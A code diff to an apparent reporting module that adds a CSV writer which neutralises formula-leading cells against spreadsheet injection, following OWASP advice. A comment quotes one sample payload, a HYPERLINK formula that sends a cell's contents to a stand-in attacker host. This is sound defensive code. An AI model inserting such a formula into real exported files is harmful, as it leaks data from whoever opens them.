@@ -8,9 +8,10 @@ so the same report has the same columns wherever it is read.
 
 from __future__ import annotations
 
-from collections.abc import Callable
+import csv
+from collections.abc import Callable, Iterable
 from dataclasses import dataclass
-from typing import Any
+from typing import Any, Literal, TextIO
 
 from projections.reports.rectification_notices import RectificationReport
 from projections.reports.restriction_verdicts import RestrictionReport
@@ -22,6 +23,33 @@ class Column:
     name: str
     title: str
     value: Callable[[Any], object]
+
+
+# OWASP's CSV injection advice: a spreadsheet runs a cell that starts with one of
+# these as a formula, so such a cell is written with a leading apostrophe, which
+# the spreadsheet shows as text. Justifications come from source systems: a
+# cell such as =HYPERLINK("http://evil.example/?"&A1) must never run.
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralised(cell: str) -> str:
+    """The cell, made safe to open in a spreadsheet."""
+    return "'" + cell if cell.startswith(_FORMULA_STARTS) else cell
+
+
+def write_csv(
+    stream: TextIO,
+    rows: Iterable[object],
+    columns: Iterable[Column],
+    cell: Callable[[object], str],
+    header: Literal["name", "title"] = "name",
+) -> None:
+    """Every CSV the service writes: a header, then each row's cells, each neutralised."""
+    columns = tuple(columns)
+    writer = csv.writer(stream)
+    writer.writerow([getattr(column, header) for column in columns])
+    for row in rows:
+        writer.writerow([neutralised(cell(column.value(row))) for column in columns])
 
 
 def _who_saw_justification(entry: ActivityEntry) -> object:
